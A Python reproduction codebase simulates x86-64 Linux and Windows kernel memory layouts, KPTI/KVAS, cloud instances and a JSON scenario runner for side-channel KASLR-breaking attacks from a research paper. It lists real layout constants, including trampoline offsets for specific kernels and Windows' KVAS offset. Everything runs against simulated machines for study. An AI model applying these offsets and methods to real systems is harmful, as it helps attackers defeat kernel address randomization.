            raise ConfigError("the experiment LKM builds on Linux only")
        self.machine = machine
        self.call_log = []

    # -- ioctls ----------------------------------------------------------------

    def read_pte(self, va):
        """PTE inspection: (present, perms, page_size, pfn) of ``va``."""
        self._log("read_pte", va)
        if not is_canonical(va):
            raise ConfigError("non-canonical address {:#x}".format(va))
        translation = self.machine.kernel.kernel_space.translate(va)
        if translation is None:
            translation = self.machine.kernel.user_space.translate(va)
        if translation is None:
            return (False, "---", None, None)
        return (
            True,
            translation.flags.describe(),
            translation.page_size,
            translation.pfn,
        )

    def invlpg(self, va):
        """Flush one translation (the P3 experiment's per-sample step)."""
        self._log("invlpg", va)
        self.machine.core.invlpg(va)

    def flush_all(self):
        """Full TLB + PSC flush (write to CR4.PGE, effectively)."""
        self._log("flush_all", None)
        self.machine.core.tlb.flush(keep_global=False)
        self.machine.core.walker.flush()

    def verify_permission_map(self, permission_map):
        """Check a recovered {va: 'r'|'rw'|'---'} map against the tables.

        Returns the list of mismatching addresses -- the paper's
        "confirmed that all the detected permissions are correct" step.
        """
        self._log("verify_permission_map", len(permission_map))
        collapse = {"r--": "r", "r-x": "r", "rw-": "rw", "rwx": "rw",
                    "---": "---"}
        mismatches = []
        for va, claimed in permission_map.items():
            present, perms, __, __ = self.read_pte(va)
            truth = collapse[perms] if present else "---"
            if truth != claimed:
                mismatches.append(va)
        return mismatches

    def count_mappings(self, start, end, stride):
        """Ground-truth mapped-page count over a range (verification)."""
        self._log("count_mappings", (start, end, stride))
        count = 0
        va = start
        while va < end:
            if self.machine.kernel.kernel_space.translate(va) is not None:
                count += 1
            va += stride
        return count

    # -- internals ----------------------------------------------------------------

    def _log(self, op, arg):
        self.call_log.append((op, arg))
