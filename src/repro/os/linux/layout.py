"""x86-64 Linux virtual-memory layout constants (paper Section II/IV).

All values follow the stock Documentation/x86/x86_64/mm.rst layout for
4-level paging, which is what the paper attacks.
"""

from repro.mmu.address import PAGE_SIZE, PAGE_SIZE_2M

#: Kernel text mapping window: 1 GiB, 2 MiB aligned -> 512 slots, 9 bits.
KERNEL_TEXT_START = 0xFFFF_FFFF_8000_0000
KERNEL_TEXT_END = 0xFFFF_FFFF_C000_0000
KERNEL_ALIGN = PAGE_SIZE_2M
KERNEL_TEXT_SLOTS = (KERNEL_TEXT_END - KERNEL_TEXT_START) // KERNEL_ALIGN

#: Module mapping window: 64 MiB, 4 KiB aligned -> 16384 probe slots.
MODULE_START = 0xFFFF_FFFF_C000_0000
MODULE_END = 0xFFFF_FFFF_C400_0000
MODULE_ALIGN = PAGE_SIZE
MODULE_SLOTS = (MODULE_END - MODULE_START) // MODULE_ALIGN

#: Direct physical map base (not randomized in our model).
DIRECT_MAP_START = 0xFFFF_8880_0000_0000

#: User-space ASLR (paper Section IV-F): 28 bits of entropy, 4 KiB grain.
USER_ASLR_BITS = 28
USER_TEXT_REGION = 0x5500_0000_0000          # code text: 0x55XXXXXXX000
USER_MMAP_REGION = 0x7F00_0000_0000          # libraries: 0x7fXXXXXXX000
USER_STACK_TOP = 0x7FFF_FFFF_F000

#: Size of the mapped kernel image in 2 MiB text/data pages (typical for a
#: distro 5.x kernel: ~44 MiB of text+rodata+data mapped large).
KERNEL_IMAGE_2M_PAGES = 22

#: Offsets (from the kernel base) of the handful of 4 KiB kernel mappings
#: that Linux's kernel-mapped area contains (paper Section IV-B exploits
#: exactly five of them for the AMD break).
KERNEL_4K_PAGE_OFFSETS = (
    0x2C0_0000,
    0x2C0_1000,
    0x2C0_4000,
    0x2C0_6000,
    0x2C0_7000,
)

#: KPTI trampoline offset from the kernel base, per kernel build
#: (paper: 0xc00000 on Ubuntu 5.11.0-27, 0xe00000 on the AWS 5.11 kernel).
KPTI_TRAMPOLINE_OFFSETS = {
    "5.11.0-27": 0xC0_0000,
    "5.11.0-1020-aws": 0xE0_0000,
    "5.13.0-30": 0xC0_0000,
    "5.4.0-81": 0xC0_0000,
}
DEFAULT_TRAMPOLINE_OFFSET = 0xC0_0000

#: Number of 4 KiB pages forming the KPTI trampoline ("minimal set of
#: kernel pages" left in the user page table).
KPTI_TRAMPOLINE_PAGES = 3


def kernel_slot_of(base):
    """Map a kernel base address back to its 2 MiB KASLR slot index."""
    return (base - KERNEL_TEXT_START) // KERNEL_ALIGN


def kernel_base_of_slot(slot):
    """Kernel base address of KASLR slot ``slot``."""
    return KERNEL_TEXT_START + slot * KERNEL_ALIGN


def module_slot_of(address):
    """Map a module-area address to its 4 KiB probe slot index."""
    return (address - MODULE_START) // MODULE_ALIGN
