"""The simulated Linux kernel: image mapping, modules, KPTI, procfs.

A :class:`LinuxKernel` owns one or two page tables:

* ``kernel_space``  -- the full kernel view (always complete),
* ``user_space``    -- what a user process's CR3 translates.  Without KPTI
  this *is* the kernel space (kernel pages protected only by U/S=0, the
  state P2 attacks); with KPTI it contains just the user half plus the
  trampoline pages (Section IV-D).

The kernel also models its own execution: syscalls and driver activity
touch kernel pages in supervisor mode, which is what loads their
translations into the TLB for the P4-based attacks (Sections IV-E, V-A).
"""

import numpy as np

from repro.errors import ConfigError
from repro.mmu.address import PAGE_SIZE, PAGE_SIZE_2M
from repro.mmu.flags import PageFlags
from repro.mmu.pagetable import AddressSpace
from repro.os.linux import layout
from repro.os.linux.kaslr import KASLRPolicy
from repro.os.linux.modules import default_module_set

#: Kernel flag shorthands (supervisor pages: US clear).
_KTEXT = PageFlags.PRESENT
_KDATA = (
    PageFlags.PRESENT | PageFlags.WRITABLE | PageFlags.NX
    | PageFlags.DIRTY | PageFlags.ACCESSED
)

#: Syscall handlers whose text pages the FGKASLR template attack targets.
SYSCALL_TABLE = (
    "sys_read", "sys_write", "sys_open", "sys_close", "sys_stat",
    "sys_fstat", "sys_lseek", "sys_mmap", "sys_mprotect", "sys_munmap",
    "sys_brk", "sys_ioctl", "sys_pread64", "sys_pwrite64", "sys_access",
    "sys_pipe", "sys_select", "sys_sched_yield", "sys_mremap", "sys_msync",
    "sys_dup", "sys_nanosleep", "sys_getpid", "sys_socket", "sys_connect",
    "sys_accept", "sys_sendto", "sys_recvfrom", "sys_bind", "sys_listen",
    "sys_clone", "sys_fork", "sys_execve", "sys_exit", "sys_wait4",
    "sys_kill", "sys_uname", "sys_fcntl", "sys_ftruncate", "sys_getcwd",
    "sys_chdir", "sys_rename", "sys_mkdir", "sys_rmdir", "sys_creat",
    "sys_unlink", "sys_readlink", "sys_chmod", "sys_chown", "sys_umask",
    "sys_gettimeofday", "sys_getrlimit", "sys_getuid", "sys_getgid",
    "sys_setuid", "sys_setgid", "sys_capget", "sys_sigaltstack",
    "sys_statfs", "sys_sync", "sys_mount", "sys_reboot", "sys_sethostname",
    "sys_init_module",
)


class LinuxKernel:
    """One booted kernel instance with randomized layout."""

    def __init__(
        self,
        version="5.11.0-27",
        kaslr=True,
        kpti=False,
        modules=None,
        fgkaslr=False,
        flare=False,
        policy=None,
        rng=None,
        seed=0,
        image_2m_pages=layout.KERNEL_IMAGE_2M_PAGES,
    ):
        if rng is None:
            rng = np.random.default_rng(seed)
        self.rng = rng
        self.version = version
        self.kaslr_enabled = kaslr
        self.kpti = kpti
        self.fgkaslr = fgkaslr
        self.flare = flare
        self.image_2m_pages = image_2m_pages
        if policy is None:
            policy = KASLRPolicy(rng=rng, enabled=kaslr)
        self.policy = policy
        self.trampoline_offset = layout.KPTI_TRAMPOLINE_OFFSETS.get(
            version, layout.DEFAULT_TRAMPOLINE_OFFSET
        )

        self.kernel_space = AddressSpace()
        if kpti:
            self.user_space = AddressSpace(
                frames=self.kernel_space.frames,
                memory=self.kernel_space.memory,
            )
        else:
            self.user_space = self.kernel_space

        self.base = self.policy.kernel_base(
            image_2m_pages=image_2m_pages,
            extra_tail_bytes=max(layout.KERNEL_4K_PAGE_OFFSETS) + PAGE_SIZE,
        )
        self._map_image()
        self._place_functions()
        if kpti:
            self._map_trampoline()

        if modules is None:
            modules = default_module_set()
        self.modules = list(modules)
        self.module_map = {}
        self._load_modules()

        if flare:
            self._map_flare_dummies()

    # -- construction --------------------------------------------------------

    def _map_image(self):
        """Map the kernel image: 2 MiB text/data pages plus 4 KiB tails.

        FGKASLR is incompatible with huge text pages (functions must be
        relocatable at 4 KiB grain), so with it enabled the text half is
        mapped with 4 KiB pages -- which is also what makes the TLB
        template bypass function-granular.
        """
        text_2m = max(1, self.image_2m_pages // 2)
        for i in range(self.image_2m_pages):
            flags = _KTEXT if i < text_2m else _KDATA
            page_size = PAGE_SIZE_2M
            if self.fgkaslr and i < text_2m:
                page_size = PAGE_SIZE
            self.kernel_space.map_range(
                self.base + i * PAGE_SIZE_2M, PAGE_SIZE_2M, flags,
                page_size=page_size,
            )
        for offset in layout.KERNEL_4K_PAGE_OFFSETS:
            self.kernel_space.map_range(
                self.base + offset, PAGE_SIZE, _KDATA, page_size=PAGE_SIZE
            )

    def _place_functions(self):
        """Assign each syscall handler a text page.

        Stock KASLR places functions at constant offsets from the base
        (the attacker's assumption in Section IV-A); FGKASLR shuffles the
        assignment so the offsets are no longer constant (Section V-A).
        """
        text_bytes = max(1, self.image_2m_pages // 2) * PAGE_SIZE_2M
        pages = text_bytes // PAGE_SIZE
        slots = np.arange(16, 16 + len(SYSCALL_TABLE) * 3, 3)
        if self.fgkaslr:
            slots = self.rng.permutation(
                np.arange(16, pages - 16)
            )[: len(SYSCALL_TABLE)]
        self.functions = {
            name: self.base + int(slot) * PAGE_SIZE
            for name, slot in zip(SYSCALL_TABLE, slots)
        }
        self.entry_address = self.base + self.trampoline_offset

    def _map_trampoline(self):
        """KPTI: alias the entry trampoline pages into the user table."""
        for i in range(layout.KPTI_TRAMPOLINE_PAGES):
            va = self.base + self.trampoline_offset + i * PAGE_SIZE
            translation = self.kernel_space.translate(va)
            if translation is None:
                # entry code lives inside a 2 MiB text page; alias a
                # dedicated 4 KiB frame in the user table.
                pfn = self.kernel_space.frames.alloc()
            else:
                pfn = translation.pfn
            self.user_space.page_table.map(va, pfn, _KTEXT, PAGE_SIZE)

    def _load_modules(self):
        """Pack modules into the module window with unmapped guard gaps."""
        total_pages = sum(m.pages for m in self.modules)
        total_pages += 3 * len(self.modules)  # worst-case gaps
        cursor = self.policy.module_area_start(total_pages)
        for module in self.modules:
            text_pages = max(1, (module.pages * 3) // 5)
            for i in range(module.pages):
                flags = _KTEXT if i < text_pages else _KDATA
                self.kernel_space.map_range(
                    cursor + i * PAGE_SIZE, PAGE_SIZE, flags
                )
            self.module_map[module.name] = (cursor, module.pages)
            cursor += (module.pages + self.policy.intermodule_gap_pages()) \
                * PAGE_SIZE
            if cursor >= layout.MODULE_END:
                raise ConfigError("module window overflow")

    def _map_flare_dummies(self):
        """FLARE (Section V-A): back every unmapped kernel slot with dummies.

        Dummy pages make every page-table walk succeed, defeating the
        page-table attack (P2/P3); they are never *executed*, which is why
        the TLB attack (P4) still works.
        """
        self.flare_dummy_slots = []
        image_slots = set(range(
            layout.kernel_slot_of(self.base),
            layout.kernel_slot_of(self.base) + self.image_2m_pages,
        ))
        for slot in range(layout.KERNEL_TEXT_SLOTS):
            if slot in image_slots:
                continue
            va = layout.kernel_base_of_slot(slot)
            if self.kernel_space.translate(va) is None:
                self.kernel_space.map_range(
                    va, PAGE_SIZE_2M, _KTEXT, page_size=PAGE_SIZE_2M
                )
                self.flare_dummy_slots.append(slot)
        # module window dummies (4 KiB grain)
        for slot in range(layout.MODULE_SLOTS):
            va = layout.MODULE_START + slot * PAGE_SIZE
            if self.kernel_space.translate(va) is None:
                self.kernel_space.map_range(va, PAGE_SIZE, _KTEXT)

    def rerandomize(self):
        """Mid-run KASLR re-randomization: move the image to a fresh base.

        Models runtime re-randomization defenses (and the chaos runtime's
        worst-case disturbance): the image, its 4 KiB tails and -- under
        KPTI -- the user-visible trampoline alias are unmapped, a new base
        is drawn from the same policy RNG, and everything is remapped
        there.  Function addresses and the entry point move with it.

        Returns the new base.  No-ops (returning the current base) when
        KASLR is off or FLARE dummies pin the whole slot space -- there is
        nowhere distinguishable to move to.
        """
        if not self.kaslr_enabled or self.flare:
            return self.base
        old_base = self.base
        text_2m = max(1, self.image_2m_pages // 2)
        for i in range(self.image_2m_pages):
            page_size = PAGE_SIZE_2M
            if self.fgkaslr and i < text_2m:
                page_size = PAGE_SIZE
            self.kernel_space.unmap_range(
                old_base + i * PAGE_SIZE_2M, PAGE_SIZE_2M,
                page_size=page_size,
            )
        for offset in layout.KERNEL_4K_PAGE_OFFSETS:
            self.kernel_space.unmap_range(old_base + offset, PAGE_SIZE)
        if self.kpti:
            for i in range(layout.KPTI_TRAMPOLINE_PAGES):
                va = old_base + self.trampoline_offset + i * PAGE_SIZE
                self.user_space.page_table.unmap(va)

        self.base = self.policy.kernel_base(
            image_2m_pages=self.image_2m_pages,
            extra_tail_bytes=max(layout.KERNEL_4K_PAGE_OFFSETS) + PAGE_SIZE,
        )
        self._map_image()
        self._place_functions()
        if self.kpti:
            self._map_trampoline()
        return self.base

    # -- ground truth (root-only files) ---------------------------------------

    def kallsyms(self):
        """/proc/kallsyms: symbol -> address (root-only ground truth)."""
        symbols = {"_text": self.base, "entry_SYSCALL_64": self.entry_address}
        symbols.update(self.functions)
        return symbols

    def proc_modules(self):
        """/proc/modules lines: (name, size_bytes) -- addresses are hidden
        from unprivileged readers (kptr_restrict), exactly why the paper
        must *infer* them by size correlation."""
        return [(m.name, m.size_bytes) for m in self.modules]

    def module_region(self, name):
        """Ground truth (start, pages) of a loaded module."""
        return self.module_map[name]

    def is_kernel_text_mapped(self, va):
        """Ground truth: does ``va`` hit the real kernel image?"""
        end = self.base + self.image_2m_pages * PAGE_SIZE_2M
        if self.base <= va < end:
            return True
        return any(
            va >> 12 == (self.base + off) >> 12
            for off in layout.KERNEL_4K_PAGE_OFFSETS
        )

    # -- kernel execution (supervisor-mode activity) ---------------------------

    def syscall(self, core, name="sys_getpid"):
        """Enter the kernel: touch entry + handler pages in supervisor mode.

        This loads their translations into the TLB of ``core`` -- the side
        effect the TLB attack and the FLARE/FGKASLR bypasses measure.
        """
        touched = [self.entry_address]
        if name in self.functions:
            touched.append(self.functions[name])
        core.kernel_touch(touched, space=self.kernel_space)
        core.clock.advance(900)  # syscall entry/exit cost

    def touch_module(self, core, name, pages=10):
        """Driver activity: the kernel executes a module's first pages."""
        start, size = self.module_map[name]
        count = min(pages, size)
        vas = [start + i * PAGE_SIZE for i in range(count)]
        core.kernel_touch(vas, space=self.kernel_space)
        core.clock.advance(1200)
