"""Simulated operating-system environments the attacks run against."""
