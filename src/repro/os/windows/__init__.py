"""Simulated Windows 10: kernel layout, KASLR, KVA Shadow (KVAS)."""

from repro.os.windows.kernel import WindowsKernel, layout

__all__ = ["WindowsKernel", "layout"]
