"""Windows 10 kernel address-space model (paper Section IV-G).

The kernel and drivers live between ``0xfffff80000000000`` and
``0xfffff88000000000`` at a 2 MiB boundary -- 262144 slots, 18 bits of
entropy.  The kernel image occupies five consecutive 2 MiB pages; its
entry point is additionally randomized at 4 KiB granularity inside the
region (the remaining 9 bits the paper breaks with the TLB attack).

With KVA Shadow (KVAS, Windows' Meltdown isolation), the kernel is removed
from the user page table except for a transition region; in version 1709
that code (e.g. ``KiSystemCall64Shadow``) sits at a constant +0x298000
from the kernel base and spans three consecutive 4 KiB pages.
"""

import types

import numpy as np

from repro.mmu.address import PAGE_SIZE, PAGE_SIZE_2M
from repro.mmu.flags import PageFlags
from repro.mmu.pagetable import AddressSpace

layout = types.SimpleNamespace(
    KERNEL_START=0xFFFF_F800_0000_0000,
    KERNEL_END=0xFFFF_F880_0000_0000,
    KERNEL_ALIGN=PAGE_SIZE_2M,
    KERNEL_IMAGE_2M_PAGES=5,
    KVAS_OFFSET=0x29_8000,
    KVAS_PAGES=3,
)
layout.KERNEL_SLOTS = (
    layout.KERNEL_END - layout.KERNEL_START
) // layout.KERNEL_ALIGN  # 262144 -> 18 bits

_KTEXT = PageFlags.PRESENT
_KDATA = (
    PageFlags.PRESENT | PageFlags.WRITABLE | PageFlags.NX
    | PageFlags.DIRTY | PageFlags.ACCESSED
)


class WindowsKernel:
    """One booted Windows kernel with randomized image placement."""

    def __init__(self, version="21H2", kvas=False, rng=None, seed=0):
        if rng is None:
            rng = np.random.default_rng(seed)
        self.rng = rng
        self.version = version
        self.kvas = kvas

        self.kernel_space = AddressSpace()
        if kvas:
            self.user_space = AddressSpace(
                frames=self.kernel_space.frames,
                memory=self.kernel_space.memory,
            )
        else:
            self.user_space = self.kernel_space

        usable = layout.KERNEL_SLOTS - layout.KERNEL_IMAGE_2M_PAGES
        self.slot = int(self.rng.integers(0, usable))
        self.base = layout.KERNEL_START + self.slot * layout.KERNEL_ALIGN

        #: 4 KiB-granular entry-point randomization inside the region
        #: (the 9 bits the region scan does NOT recover).
        entry_pages = (
            layout.KERNEL_IMAGE_2M_PAGES * PAGE_SIZE_2M // PAGE_SIZE
        )
        self.entry_point = self.base + int(
            self.rng.integers(0, entry_pages)
        ) * PAGE_SIZE

        self._map_image()
        if kvas:
            self._map_kvas_region()

    def _map_image(self):
        """Map the five 2 MiB slots; the slot holding the entry point is
        carved into 4 KiB pages (mixed execute permissions around the
        entry stub prevent a large-page mapping there), which is what
        makes the entry's TLB footprint 4 KiB-granular."""
        entry_slot = (self.entry_point - self.base) // PAGE_SIZE_2M
        for i in range(layout.KERNEL_IMAGE_2M_PAGES):
            flags = _KTEXT if i < 3 else _KDATA
            if i == entry_slot:
                self.kernel_space.map_range(
                    self.base + i * PAGE_SIZE_2M, PAGE_SIZE_2M, flags,
                    page_size=PAGE_SIZE,
                )
            else:
                self.kernel_space.map_range(
                    self.base + i * PAGE_SIZE_2M, PAGE_SIZE_2M, flags,
                    page_size=PAGE_SIZE_2M,
                )

    def _map_kvas_region(self):
        """Alias the KiSystemCall64Shadow pages into the user table."""
        self.kvas_base = self.base + layout.KVAS_OFFSET
        for i in range(layout.KVAS_PAGES):
            va = self.kvas_base + i * PAGE_SIZE
            translation = self.kernel_space.translate(va)
            pfn = (
                translation.pfn
                if translation is not None
                else self.kernel_space.frames.alloc()
            )
            self.user_space.page_table.map(va, pfn, _KTEXT, PAGE_SIZE)

    # -- ground truth ---------------------------------------------------------

    def is_kernel_mapped(self, va):
        end = self.base + layout.KERNEL_IMAGE_2M_PAGES * PAGE_SIZE_2M
        return self.base <= va < end

    def region_slots(self):
        """Slot indices occupied by the kernel image."""
        return list(range(self.slot, self.slot + layout.KERNEL_IMAGE_2M_PAGES))

    # -- kernel activity --------------------------------------------------------

    def syscall(self, core):
        """Enter the kernel, touching the entry page (TLB side effect)."""
        core.kernel_touch([self.entry_point], space=self.kernel_space)
        core.clock.advance(1100)
