"""The three cloud targets of the paper's Section IV-H.

* Amazon EC2    : Xeon E5-2676 (Haswell), Meltdown-vulnerable, hence KPTI;
                  the AWS kernel's trampoline offset is 0xe00000.
* Google GCE    : Xeon Cascade Lake, Meltdown-fixed in hardware, no KPTI.
* Microsoft Azure : Xeon Platinum 8171M running Windows 10 21H2; the
                  attack derandomizes the 18-bit kernel region entropy.

Cloud neighbours add scheduling noise; ``noise_factor`` scales the CPU
model's sigma accordingly.
"""


class CloudInstance:
    """Static description of one rentable instance type."""

    __slots__ = (
        "provider",
        "cpu_key",
        "os_family",
        "kernel_version",
        "kpti",
        "kvas",
        "noise_factor",
    )

    def __init__(self, provider, cpu_key, os_family, kernel_version,
                 kpti=False, kvas=False, noise_factor=1.0):
        self.provider = provider
        self.cpu_key = cpu_key
        self.os_family = os_family
        self.kernel_version = kernel_version
        self.kpti = kpti
        self.kvas = kvas
        self.noise_factor = noise_factor

    def __repr__(self):
        return "CloudInstance({!r}, {!r}, {!r})".format(
            self.provider, self.cpu_key, self.os_family
        )


CLOUD_CATALOG = {
    "ec2": CloudInstance(
        provider="Amazon EC2",
        cpu_key="xeon-e5-2676",
        os_family="linux",
        kernel_version="5.11.0-1020-aws",
        kpti=True,
        noise_factor=1.3,
    ),
    "gce": CloudInstance(
        provider="Google GCE",
        cpu_key="xeon-cascade-lake",
        os_family="linux",
        kernel_version="5.13.0-30",
        kpti=False,
        noise_factor=1.3,
    ),
    "azure": CloudInstance(
        provider="Microsoft Azure",
        cpu_key="xeon-8171m",
        os_family="windows",
        kernel_version="21H2",
        kvas=False,
        noise_factor=1.5,
    ),
}
