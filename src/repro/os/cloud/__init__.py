"""Cloud instance catalog (paper Section IV-H)."""

from repro.os.cloud.instances import CLOUD_CATALOG, CloudInstance

__all__ = ["CLOUD_CATALOG", "CloudInstance"]
