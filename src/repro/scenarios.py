"""JSON-driven experiment scenarios.

A scenario file describes one victim machine, one attack, and the
expectations against ground truth -- so experiments are shareable data
rather than code.  The repository ships one scenario per paper
experiment under ``scenarios/``; run them with::

    python -m repro scenario scenarios/table1_alderlake.json
    python -m repro suite scenarios/

Schema::

    {
      "name": "...",
      "description": "...",
      "machine": {"os": "linux" | "windows" | "cloud", ...factory args},
      "attack": {"kind": "<attack>", ...attack args},
      "expect": {"correct": true, "max_total_ms": 1.0, ...}
    }
"""

import json
import os
import pathlib
import signal
import time

from repro.errors import ConfigError
from repro.machine import Machine

#: attack kinds -> runner(machine, params) -> dict of observations
_ATTACKS = {}


def _attack(name):
    def register(fn):
        _ATTACKS[name] = fn
        return fn
    return register


@_attack("kaslr")
def _run_kaslr(machine, params):
    from repro.attacks.kaslr_break import break_kaslr

    result = break_kaslr(machine, rounds=params.get("rounds"),
                         batched=params.get("batched", True))
    return {
        "correct": result.base == machine.kernel.base,
        "base": result.base,
        "method": result.method,
        "probing_ms": result.probing_ms,
        "total_ms": result.total_ms,
    }


@_attack("modules")
def _run_modules(machine, params):
    from repro.attacks.module_detect import detect_modules, region_accuracy

    result = detect_modules(machine, rounds=params.get("rounds"),
                            batched=params.get("batched", True))
    return {
        "correct": region_accuracy(result, machine.kernel) >= params.get(
            "min_accuracy", 0.98
        ),
        "identified": len(result.identified),
        "regions": len(result.regions),
        "probing_ms": result.probing_ms,
        "total_ms": result.total_ms,
    }


@_attack("kpti")
def _run_kpti(machine, params):
    from repro.attacks.kpti_break import break_kaslr_kpti

    result = break_kaslr_kpti(
        machine, trampoline_offset=params.get("trampoline_offset"),
        batched=params.get("batched", True),
    )
    return {
        "correct": result.base == machine.kernel.base,
        "base": result.base,
        "probing_ms": result.probing_ms,
        "total_ms": result.total_ms,
    }


@_attack("windows-region")
def _run_windows_region(machine, params):
    from repro.attacks.windows_break import find_kernel_region

    result = find_kernel_region(machine,
                                batched=params.get("batched", True))
    return {
        "correct": result.base == machine.kernel.base,
        "base": result.base,
        "bits": result.derandomized_bits,
        "probing_seconds": result.probing_seconds,
    }


@_attack("windows-kvas")
def _run_windows_kvas(machine, params):
    from repro.attacks.windows_break import find_kvas_region

    result = find_kvas_region(machine,
                              batched=params.get("batched", True))
    return {
        "correct": result.base == machine.kernel.base,
        "base": result.base,
        "probing_seconds": result.probing_seconds,
    }


@_attack("user-scan")
def _run_user_scan(machine, params):
    from repro.attacks.userspace import find_user_code_base

    result = find_user_code_base(machine,
                                 batched=params.get("batched", True))
    return {
        "correct": result.base == machine.process.text_base,
        "base": result.base,
        "probing_seconds": result.probing_seconds,
    }


@_attack("sgx")
def _run_sgx(machine, params):
    from repro.attacks.sgx_break import break_aslr_from_enclave

    machine.create_enclave()
    result = break_aslr_from_enclave(
        machine, identify=params.get("identify", False)
    )
    return {
        "correct": result.code_base == machine.process.text_base,
        "load_seconds": result.load_seconds,
        "store_seconds": result.store_seconds,
    }


@_attack("supervised")
def _run_supervised(machine, params):
    """Any attack through the supervisor (for chaos scenarios)."""
    from repro.attacks.supervisor import supervise

    attack = params.pop("attack", "kaslr")
    verdict = supervise(
        machine, attack,
        max_retries=params.pop("max_retries", 3),
        probe_budget=params.pop("probe_budget", None),
        batched=params.pop("batched", True),
        **params,
    )
    observations = {
        "status": verdict.status,
        "confidence": verdict.confidence,
        "retries": verdict.retries,
        "disturbances": len(verdict.disturbances),
        "probes": verdict.probes_spent,
    }
    if attack in ("kaslr", "kpti", "windows"):
        observations["correct"] = verdict.value == machine.kernel.base
    elif attack == "modules":
        truth = machine.kernel.module_map
        observations["correct"] = bool(verdict.value) and all(
            truth.get(name, (None,))[0] == addr
            for name, addr in verdict.value.items()
        )
        observations["identified"] = len(verdict.value or {})
    elif attack in ("userspace", "sgx"):
        observations["correct"] = verdict.value == machine.process.text_base
    else:
        observations["correct"] = verdict.found
    return observations


@_attack("hang")
def _run_hang(machine, params):
    """Fault-injection fixture: a scenario that never finishes.

    Exists so the watchdog path (``--timeout-per-scenario``, campaign
    watchdogs) can be exercised deterministically; a real deployment
    hits the same code through a livelocked attack.
    """
    time.sleep(params.get("seconds", 3600.0))
    return {"hung": False}


@_attack("kill-self")
def _run_kill_self(machine, params):
    """Fault-injection fixture: SIGKILL the worker running this scenario.

    The deterministic stand-in for an OOM-killed worker.  With a
    ``sentinel`` file path the process dies only while the sentinel
    does not yet exist (it is created just before dying), so the first
    attempt is lost and a retried attempt succeeds; without a sentinel
    every attempt dies.
    """
    sentinel = params.get("sentinel")
    if sentinel is None or not os.path.exists(sentinel):
        if sentinel is not None:
            pathlib.Path(sentinel).touch()
        os.kill(os.getpid(), signal.SIGKILL)
    return {"correct": True, "survived_retry": True}


@_attack("noop")
def _run_noop(machine, params):
    """Infrastructure fixture: a deterministic microsecond-scale unit.

    Exists so 100k-unit campaign smokes and sustained-load soaks can
    exercise the fabric -- journals, scheduling, admission, resume --
    at real unit *counts* without paying a real attack's boot and
    probe cost per unit.  ``spin`` rounds of integer mixing keep the
    unit CPU-bound-but-tiny; the checksum is a pure function of
    ``(machine seed, spin)`` so resumed and re-run stores stay
    byte-identical.  Pair it with ``"machine": {"os": "none"}`` to
    skip the machine boot as well.
    """
    spin = int(params.get("spin", 64))
    acc = (machine.seed or 0) & 0xFFFFFFFF
    for i in range(spin):
        acc = (acc * 1103515245 + 12345 + i) & 0x7FFFFFFF
    return {"correct": True, "checksum": acc}


@_attack("fingerprint")
def _run_fingerprint(machine, params):
    from repro.attacks.fingerprint import ApplicationFingerprinter
    from repro.workloads.apps import APP_CATALOG, ApplicationWorkload

    app = params.get("app", "video-call")
    spy = ApplicationFingerprinter(machine,
                                   batched=params.get("batched", True))
    workload = ApplicationWorkload(app, seed=params.get("victim_seed", 1))
    guess, __, __ = spy.identify(
        workload, list(APP_CATALOG.values()),
        intervals=params.get("intervals", 20),
    )
    return {"correct": guess == app, "guess": guess, "truth": app}


def _jsonable(value):
    """Coerce observation values to plain JSON types (numpy scalars in
    particular), so a result serializes identically before and after a
    journal round trip."""
    if isinstance(value, bool) or value is None \
            or isinstance(value, (str, int, float)):
        if isinstance(value, float) and not isinstance(value, bool):
            return float(value)
        return value
    if isinstance(value, dict):
        return {str(k): _jsonable(v) for k, v in value.items()}
    if isinstance(value, (list, tuple)):
        return [_jsonable(v) for v in value]
    item = getattr(value, "item", None)
    if callable(item):
        return _jsonable(item())
    return repr(value)


class ScenarioResult:
    """Outcome of one scenario run."""

    __slots__ = ("name", "passed", "observations", "violations",
                 "machine_seed", "chaos_digest", "degraded")

    def __init__(self, name, passed, observations, violations,
                 machine_seed=None, chaos_digest=None, degraded=None):
        self.name = name
        self.passed = passed
        self.observations = observations
        self.violations = violations
        #: boot seed of the victim machine (campaign journaling)
        self.machine_seed = machine_seed
        #: digest of the chaos schedule that fired during the run, or
        #: None on chaos-free machines (campaign resume verification)
        self.chaos_digest = chaos_digest
        #: degradation reason (e.g. "deadline") or None
        self.degraded = degraded

    def degrade(self, reason):
        """Downgrade this result instead of dropping it (deadline rule).

        Mirrors the supervisor's verdict degradation: the confidence is
        halved and a ``found`` status that falls below the reporting
        bar becomes ``abstain``; the value and pass/fail stand.
        """
        from repro.attacks.supervisor import apply_degradation

        self.degraded = reason
        confidence = self.observations.get("confidence")
        if isinstance(confidence, (int, float)) \
                and not isinstance(confidence, bool):
            status, confidence = apply_degradation(
                self.observations.get("status"), confidence
            )
            self.observations["confidence"] = confidence
            if self.observations.get("status") is not None:
                self.observations["status"] = status
        return self

    def as_dict(self):
        return {
            "name": self.name,
            "passed": bool(self.passed),
            "observations": _jsonable(self.observations),
            "violations": [str(v) for v in self.violations],
            "machine_seed": self.machine_seed,
            "chaos_digest": self.chaos_digest,
            "degraded": self.degraded,
        }

    @classmethod
    def from_dict(cls, data):
        return cls(
            data["name"], data["passed"], data["observations"],
            data["violations"], machine_seed=data.get("machine_seed"),
            chaos_digest=data.get("chaos_digest"),
            degraded=data.get("degraded"),
        )

    def __repr__(self):
        return "ScenarioResult({!r}, {})".format(
            self.name, "PASS" if self.passed else "FAIL"
        )


class _StubMachine:
    """A bootless machine for infrastructure fixtures (``"os": "none"``).

    Booting even the smallest Linux model costs tens of milliseconds;
    a 100k-unit fabric smoke cannot afford that per unit.  The stub
    carries exactly the attributes the scenario plumbing reads --
    ``seed`` and ``chaos`` -- and nothing an actual attack could use,
    so only infrastructure fixtures (``noop``, ``hang``,
    ``kill-self``) run on it.
    """

    __slots__ = ("seed", "chaos")

    def __init__(self, seed=0):
        self.seed = seed
        self.chaos = None


def _build_machine(spec):
    spec = dict(spec)
    os_family = spec.pop("os", "linux")
    if os_family == "linux":
        return Machine.linux(**spec)
    if os_family == "windows":
        return Machine.windows(**spec)
    if os_family == "cloud":
        return Machine.cloud(spec.pop("provider"), **spec)
    if os_family == "none":
        return _StubMachine(seed=spec.pop("seed", 0))
    raise ConfigError("unknown machine os {!r}".format(os_family))


def _check_expectations(expect, observations):
    violations = []
    for key, wanted in expect.items():
        if key.startswith("max_"):
            field = key[4:]
            actual = observations.get(field)
            if actual is None or actual > wanted:
                violations.append(
                    "{} = {} exceeds {}".format(field, actual, wanted)
                )
        elif key.startswith("min_"):
            field = key[4:]
